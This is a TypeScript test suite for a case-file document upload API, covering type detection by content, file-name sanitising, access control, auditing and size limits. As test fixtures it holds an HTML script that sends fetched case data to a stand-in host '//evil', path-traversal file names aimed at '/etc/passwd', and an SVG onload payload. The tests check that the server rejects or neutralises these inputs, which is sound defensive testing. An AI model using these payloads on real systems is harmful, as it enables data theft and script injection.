import { createHash } from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp, signIn } from '../../../../test/app.js';
import { useTestDatabase } from '../../../../test/db.js';
import { makeDraftCase, makeOrganisation, makeUser, TEST_PDF } from '../../../../test/factories.js';
import type { App } from '../../platform/http/fastify-app.js';
import type { Db } from '../../db/client.js';

const PDF = Buffer.concat([
  Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n', 'latin1'),
  Buffer.alloc(3000, 7),
  Buffer.from('\n%%EOF\n'),
]);
const PNG = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1,
  0, 0, 0, 1, 8, 6, 0, 0, 0,
]);
const HTML = Buffer.from(
  '<!DOCTYPE html><html><body><script>fetch("/api/cases").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script></body></html>',
);
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');

interface Upload {
  kind?: string;
  fileName?: string;
  /** The type the client claims for the file: the server ignores it. */
  claimedType?: string;
  content: Buffer;
  /** Send the file part before the kind field. */
  fileFirst?: boolean;
}

/** A multipart body built byte by byte, so that tests control every header (odd file names included). */
function multipart({
  kind,
  fileName = 'file.bin',
  claimedType = 'application/octet-stream',
  content,
  fileFirst = false,
}: Upload) {
  const boundary = `----casebridge-${Math.random().toString(16).slice(2)}`;
  const field =
    kind === undefined
      ? []
      : [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${kind}\r\n`)];
  const file = [
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${claimedType}\r\n\r\n`,
      'utf8',
    ),
    content,
    Buffer.from('\r\n'),
  ];
  const parts = fileFirst ? [...file, ...field] : [...field, ...file];
  return {
    payload: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

/** Every file the blob store holds (its temporary folder included). */
async function storedFiles(dataDir: string): Promise<string[]> {
  const root = path.join(dataDir, 'blobs');
  const entries = await fs.readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => path.relative(root, path.join(e.parentPath, e.name)));
}

async function makeStation(db: Db) {
  const org = await makeOrganisation(db);
  const officer = await makeUser(db, org.id, 'station.officer');
  return { org, officer };
}

describe('the documents of a station\u2019s case file', () => {
  let db: Db;
  let app: App;
  let dataDir: string;
  let cookie: string;
  let caseId: string;
  let station: Awaited<ReturnType<typeof makeStation>>;

  const upload = (body: Upload, onCase = caseId, as = cookie) =>
    app.inject({ method: 'POST', url: `/api/cases/${onCase}/documents`, ...withCookie(multipart(body), as) });
  const withCookie = (body: ReturnType<typeof multipart>, as: string) => ({
    payload: body.payload,
    headers: { ...body.headers, cookie: as },
  });

  beforeAll(async () => {
    ({ db } = await useTestDatabase());
    ({ app, dataDir } = await useTestApp(db));
    station = await makeStation(db);
    cookie = await signIn(app, station.officer.username);
    caseId = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
  });

  it('uploads a PDF and downloads it byte-identical, as an attachment that the browser may not render or keep', async () => {
    const res = await upload({
      kind: 'report',
      fileName: 'report.pdf',
      claimedType: 'application/pdf',
      content: PDF,
    });
    expect(res.statusCode).toBe(201);
    const document = res.json();
    expect(document).toMatchObject({
      caseId,
      kind: 'report',
      name: 'report.pdf',
      mediaType: 'application/pdf',
      size: PDF.length,
      sha256: sha256(PDF),
      uploadedBy: station.officer.id,
    });

    const download = await app.inject({
      method: 'GET',
      url: `/api/cases/${caseId}/documents/${document.id}/content`,
      headers: { cookie },
    });
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.equals(PDF)).toBe(true);
    expect(sha256(download.rawPayload)).toBe(document.sha256);
    expect(download.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-length': String(PDF.length),
      'content-disposition': `attachment; filename="report.pdf"; filename*=UTF-8''report.pdf`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': 'sandbox',
      'cache-control': 'private, no-store',
    });
  });

  it('takes what phones and recorders write — an iPhone photo, an iPhone video, a call recording — by their content', async () => {
    const iso = (brand: string, compatible: string, rest: number) =>
      Buffer.concat([
        Buffer.from([0x00, 0x00, 0x00, 16 + compatible.length]),
        Buffer.from(`ftyp${brand}`, 'latin1'),
        Buffer.alloc(4),
        Buffer.from(compatible, 'latin1'),
        Buffer.alloc(rest, 3),
      ]);
    const files = [
      { kind: 'photo', fileName: 'IMG_0412.HEIC', content: iso('heic', 'mif1heic', 900), type: 'image/heic' },
      {
        kind: 'video',
        fileName: 'IMG_0413.MOV',
        content: iso('qt  ', 'qt  ', 2000),
        type: 'video/quicktime',
      },
      {
        kind: 'audio',
        fileName: 'تماس تهدیدآمیز.amr',
        content: Buffer.concat([Buffer.from('#!AMR\n', 'latin1'), Buffer.alloc(640, 0x3c)]),
        type: 'audio/amr',
      },
    ];
    for (const file of files) {
      const res = await upload({ ...file, claimedType: 'application/octet-stream' });
      expect(res.statusCode, file.fileName).toBe(201);
      expect(res.json()).toMatchObject({ kind: file.kind, mediaType: file.type, size: file.content.length });
      const download = await app.inject({
        method: 'GET',
        url: `/api/cases/${caseId}/documents/${res.json().id}/content`,
        headers: { cookie },
      });
      expect(download.rawPayload.equals(file.content)).toBe(true);
      expect(download.headers['content-type']).toBe(file.type);
      expect(download.headers['content-disposition']).toMatch(/^attachment; /);
    }
  });

  it('records the upload in the case\u2019s timeline and the upload and the download in the audit log, without the file name', async () => {
    const res = await upload({
      kind: 'evidence',
      fileName: 'اظهارات آقای احمدی.pdf',
      content: Buffer.concat([PDF, Buffer.from('timeline')]),
    });
    const { id } = res.json();
    await app.inject({
      method: 'GET',
      url: `/api/cases/${caseId}/documents/${id}/content`,
      headers: { cookie },
    });
    const events = await db
      .selectFrom('case_events')
      .selectAll()
      .where('case_id', '=', caseId)
      .where('type', '=', 'document.uploaded')
      .execute();
    expect(events.map((e) => e.details.documentId)).toContain(id);
    const audit = await db
      .selectFrom('audit_log')
      .selectAll()
      .where('resource_id', '=', id)
      .orderBy('seq')
      .execute();
    expect(audit.map((a) => a.action)).toEqual(['document.uploaded', 'document.read']);
    expect(audit[0]?.actor_user_id).toBe(station.officer.id);
    expect(JSON.stringify([events, audit])).not.toContain('احمدی');
  });

  it('keeps a Persian file name as typed and offers it for download in RFC 5987 form', async () => {
    const name = 'گزارش\u200cهای صحنه ۱۴۰۳.pdf';
    const res = await upload({
      kind: 'report',
      fileName: name,
      content: Buffer.concat([PDF, Buffer.from('persian')]),
    });
    expect(res.json().name).toBe(name);
    const download = await app.inject({
      method: 'GET',
      url: `/api/cases/${caseId}/documents/${res.json().id}/content`,
      headers: { cookie },
    });
    const disposition = download.headers['content-disposition'] as string;
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe(name);
  });

  it('neutralises directory parts, control characters and bidi overrides in the file name', async () => {
    const res = await upload({ kind: 'photo', fileName: '../../etc/pa\u0001ss\u202ewd', content: PNG });
    expect(res.statusCode).toBe(201);
    expect(res.json().name).toBe('passwd');
    const windows = await upload({
      kind: 'photo',
      fileName: '..\\..\\Windows\\scan\u2067 01.png',
      content: Buffer.concat([PNG, Buffer.from('2')]),
    });
    expect(windows.json().name).toBe('scan 01.png');
    const dotted = await upload({
      kind: 'photo',
      fileName: '..',
      content: Buffer.concat([PNG, Buffer.from('3')]),
    });
    expect(dotted.json().name).toBe('document');
  });

  it('tells the type by the content, not by the claimed type or the name', async () => {
    const res = await upload({
      kind: 'photo',
      fileName: 'photo.jpg',
      claimedType: 'image/jpeg',
      content: Buffer.concat([PNG, Buffer.from('4')]),
    });
    expect(res.json().mediaType).toBe('image/png');
    const text = await upload({
      kind: 'other',
      fileName: 'note.pdf',
      claimedType: 'application/pdf',
      content: Buffer.from('یادداشت افسر نگهبان\n'),
    });
    expect(text.json().mediaType).toBe('text/plain');
    const download = await app.inject({
      method: 'GET',
      url: `/api/cases/${caseId}/documents/${text.json().id}/content`,
      headers: { cookie },
    });
    expect(download.headers['content-type']).toBe('text/plain; charset=utf-8');
  });

  it('stores the same content uploaded twice once on disk, as two documents', async () => {
    const otherCase = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
    const content = Buffer.concat([PDF, Buffer.from('shared between two cases')]);
    const before = await storedFiles(dataDir);
    const first = await upload({ kind: 'report', fileName: 'a.pdf', content });
    const second = await upload({ kind: 'evidence', fileName: 'b.pdf', content }, otherCase);
    expect([first.statusCode, second.statusCode]).toEqual([201, 201]);
    expect(first.json().id).not.toBe(second.json().id);
    const after = await storedFiles(dataDir);
    expect(after.filter((f) => !before.includes(f))).toEqual([
      path.join(sha256(content).slice(0, 2), sha256(content).slice(2, 4), sha256(content)),
    ]);
    const rows = await db
      .selectFrom('case_documents')
      .select('id')
      .where('sha256', '=', sha256(content))
      .execute();
    expect(rows).toHaveLength(2);
  });

  it('lists the documents of a case, oldest first, and records the listing', async () => {
    const listed = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
    await upload(
      { kind: 'complaint', fileName: 'first.pdf', content: Buffer.concat([PDF, Buffer.from('first')]) },
      listed,
    );
    await upload(
      { kind: 'medical', fileName: 'second.png', content: Buffer.concat([PNG, Buffer.from('second')]) },
      listed,
    );
    const res = await app.inject({
      method: 'GET',
      url: `/api/cases/${listed}/documents`,
      headers: { cookie },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().items.map((d: { name: string; kind: string }) => [d.name, d.kind])).toEqual([
      ['first.pdf', 'complaint'],
      ['second.png', 'medical'],
    ]);
    const audit = await db
      .selectFrom('audit_log')
      .select('action')
      .where('resource_id', '=', listed)
      .execute();
    expect(audit.map((a) => a.action)).toEqual(['document.listed']);
  });

  it('answers documents.not_found for a document of another case, and cases.not_found for another station\u2019s case', async () => {
    const doc = (
      await upload({
        kind: 'report',
        fileName: 'mine.pdf',
        content: Buffer.concat([PDF, Buffer.from('mine')]),
      })
    ).json();
    const otherCase = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
    const wrongCase = await app.inject({
      method: 'GET',
      url: `/api/cases/${otherCase}/documents/${doc.id}/content`,
      headers: { cookie },
    });
    expect(wrongCase.statusCode).toBe(404);
    expect(wrongCase.json().error.code).toBe('documents.not_found');

    const other = await makeStation(db);
    const otherCookie = await signIn(app, other.officer.username);
    for (const url of [
      `/api/cases/${caseId}/documents/${doc.id}/content`,
      `/api/cases/${caseId}/documents`,
    ]) {
      const res = await app.inject({ method: 'GET', url, headers: { cookie: otherCookie } });
      expect(res.statusCode).toBe(404);
      expect(res.json().error.code).toBe('cases.not_found');
    }
  });

  it('asks for a session, and refuses a user whose role may not touch case files', async () => {
    const anon = await app.inject({
      method: 'POST',
      url: `/api/cases/${caseId}/documents`,
      ...multipart({ kind: 'report', content: PDF }),
    });
    expect(anon.statusCode).toBe(401);
    const clerk = await makeUser(db, station.org.id, 'prosecutor.clerk');
    const res = await upload({ kind: 'report', content: PDF }, caseId, await signIn(app, clerk.username));
    expect(res.statusCode).toBe(403);
    expect(res.json().error.code).toBe('auth.forbidden');
  });

  it('asks for a known kind, sent before the file', async () => {
    const noKind = await upload({ content: PDF });
    expect(noKind.statusCode).toBe(400);
    expect(noKind.json().error.issues[0].path).toBe('body.kind');
    const late = await upload({ kind: 'report', content: PDF, fileFirst: true });
    expect(late.statusCode).toBe(400);
    const unknown = await upload({ kind: 'weapon', content: PDF });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error.issues[0].path).toBe('body.kind');
  });

  it('describes the three routes in the OpenAPI document, the upload as multipart', async () => {
    const spec = (await app.inject({ method: 'GET', url: '/api/openapi.json' })).json();
    expect(Object.keys(spec.paths)).toEqual(
      expect.arrayContaining(['/api/cases/{id}/documents', '/api/cases/{id}/documents/{documentId}/content']),
    );
    expect(Object.keys(spec.paths['/api/cases/{id}/documents'].post.requestBody?.content ?? {})).toContain(
      'multipart/form-data',
    );
  });

  it('answers 415 to a body that is not multipart', async () => {
    const json = await app.inject({
      method: 'POST',
      url: `/api/cases/${caseId}/documents`,
      headers: { cookie },
      payload: { kind: 'report', file: 'JVBERi0xLjcK' },
    });
    expect(json.statusCode).toBe(415);
    expect(json.json().error.code).toBe('request.unsupported_media_type');
    const form = await app.inject({
      method: 'POST',
      url: `/api/cases/${caseId}/documents`,
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'kind=report',
    });
    expect(form.statusCode).toBe(415);
  });
});

describe('refused uploads, which leave nothing in the store', () => {
  let db: Db;
  let app: App;
  let dataDir: string;
  let cookie: string;
  let caseId: string;
  let station: Awaited<ReturnType<typeof makeStation>>;
  const upload = (body: Upload, onCase = caseId, as = cookie) => {
    const { payload, headers } = multipart(body);
    return app.inject({
      method: 'POST',
      url: `/api/cases/${onCase}/documents`,
      payload,
      headers: { ...headers, cookie: as },
    });
  };

  beforeAll(async () => {
    ({ db } = await useTestDatabase());
    ({ app, dataDir } = await useTestApp(db, { config: { maxDocumentBytes: 1024 } }));
    station = await makeStation(db);
    cookie = await signIn(app, station.officer.username);
    caseId = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
  });

  const expectNothingStored = async () => {
    expect(await storedFiles(dataDir)).toEqual([]);
    expect(await db.selectFrom('case_documents').select('id').execute()).toEqual([]);
    expect(await db.selectFrom('blobs').select('sha256').execute()).toEqual([]);
  };

  it('answers 400 documents.kind_mismatch, naming the detected type, to a PDF sent as a photo, and stores nothing', async () => {
    const res = await upload({
      kind: 'photo',
      fileName: 'photo.jpg',
      claimedType: 'image/jpeg',
      content: TEST_PDF,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({
      code: 'documents.kind_mismatch',
      details: { kind: 'photo', detectedType: 'application/pdf' },
      issues: [{ path: 'body.kind', code: 'documents.kind_mismatch' }],
    });
    expect(res.json().error.message).toContain('application/pdf');
    for (const [kind, content] of [
      ['video', PNG],
      ['audio', TEST_PDF],
      ['id_document', Buffer.from('یادداشت\n')],
    ] as const) {
      const other = await upload({ kind, content });
      expect(other.statusCode, kind).toBe(400);
      expect(other.json().error.code).toBe('documents.kind_mismatch');
    }
    await expectNothingStored();
  });

  it('answers a multipart body without a boundary, cut short, or with no parts with 400, never 500', async () => {
    const post = (contentType: string, payload: Buffer | string) =>
      app.inject({
        method: 'POST',
        url: `/api/cases/${caseId}/documents`,
        payload,
        headers: { cookie, 'content-type': contentType },
      });
    const whole = multipart({ kind: 'report', content: TEST_PDF });
    const cases = [
      post('multipart/form-data', whole.payload),
      post(whole.headers['content-type'], whole.payload.subarray(0, 120)),
      post(whole.headers['content-type'], whole.payload.subarray(0, whole.payload.length - 40)),
      post(whole.headers['content-type'], ''),
      post('multipart/form-data; boundary=', whole.payload),
      post('multipart/form-data; boundary=zzz', whole.payload),
    ];
    const answers = (await Promise.all(cases)).map((res) => `${res.statusCode} ${res.json().error?.code}`);
    expect(answers).toEqual(Array(cases.length).fill('400 request.invalid'));
    await expectNothingStored();
  });

  it('answers 415 documents.unsupported_type to HTML disguised as image/png with a .png name', async () => {
    const res = await upload({
      kind: 'photo',
      fileName: 'photo.png',
      claimedType: 'image/png',
      content: HTML,
    });
    expect(res.statusCode).toBe(415);
    expect(res.json().error.code).toBe('documents.unsupported_type');
    await expectNothingStored();
  });

  it('answers 415 to a program, a ZIP and an SVG, whatever they are called', async () => {
    for (const content of [
      Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
      Buffer.from('PK\x03\x04\x14\x00', 'latin1'),
      Buffer.from('<svg onload="alert(1)"/>'),
    ]) {
      const res = await upload({
        kind: 'evidence',
        fileName: 'scan.pdf',
        claimedType: 'application/pdf',
        content,
      });
      expect(res.statusCode).toBe(415);
    }
    await expectNothingStored();
  });

  it('answers 413 documents.too_large past the configured size, and keeps no part of the file', async () => {
    const res = await upload({
      kind: 'report',
      fileName: 'big.pdf',
      content: Buffer.concat([PDF.subarray(0, 100), Buffer.alloc(5000)]),
    });
    expect(res.statusCode).toBe(413);
    expect(res.json().error.code).toBe('documents.too_large');
    await expectNothingStored();
  });

  it('accepts a file of exactly the configured size, and keeps it when a longer file that starts with the same bytes is refused', async () => {
    const content = Buffer.concat([PDF.subarray(0, 100), Buffer.alloc(1024 - 100)]);
    const res = await upload({ kind: 'report', fileName: 'exact.pdf', content });
    expect(res.statusCode).toBe(201);
    expect(res.json().size).toBe(1024);
    const blob = path.join(sha256(content).slice(0, 2), sha256(content).slice(2, 4), sha256(content));
    expect(await storedFiles(dataDir)).toEqual([blob]);
    // The longer file's first 1024 bytes are the blob above, which a document uses: refusing it must not touch it.
    const longer = await upload({
      kind: 'report',
      fileName: 'longer.pdf',
      content: Buffer.concat([content, Buffer.from('and more')]),
    });
    expect(longer.statusCode).toBe(413);
    expect(await storedFiles(dataDir)).toEqual([blob]);
    const download = await app.inject({
      method: 'GET',
      url: `/api/cases/${caseId}/documents/${res.json().id}/content`,
      headers: { cookie },
    });
    expect(download.rawPayload.equals(content)).toBe(true);

    await db.deleteFrom('case_events').execute();
    await db.deleteFrom('case_documents').execute();
    await db.deleteFrom('blobs').execute();
    await fs.rm(path.join(dataDir, 'blobs'), { recursive: true, force: true });
  });

  it('answers 400 documents.empty to an empty file', async () => {
    const res = await upload({ kind: 'report', fileName: 'empty.pdf', content: Buffer.alloc(0) });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('documents.empty');
    await expectNothingStored();
  });

  it('answers 404 cases.not_found for another station\u2019s case, before reading the file', async () => {
    const other = await makeStation(db);
    const res = await upload(
      { kind: 'report', fileName: 'x.pdf', content: PDF.subarray(0, 500) },
      caseId,
      await signIn(app, other.officer.username),
    );
    expect(res.statusCode).toBe(404);
    expect(res.json().error.code).toBe('cases.not_found');
    await expectNothingStored();
  });

  it('answers 409 cases.not_editable for a case already sent', async () => {
    const sent = await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id });
    await db.updateTable('cases').set({ status: 'sent' }).where('id', '=', sent.id).execute();
    const res = await upload(
      { kind: 'report', fileName: 'late.pdf', content: PDF.subarray(0, 500) },
      sent.id,
    );
    expect(res.statusCode).toBe(409);
    expect(res.json().error.code).toBe('cases.not_editable');
    await expectNothingStored();
  });
});
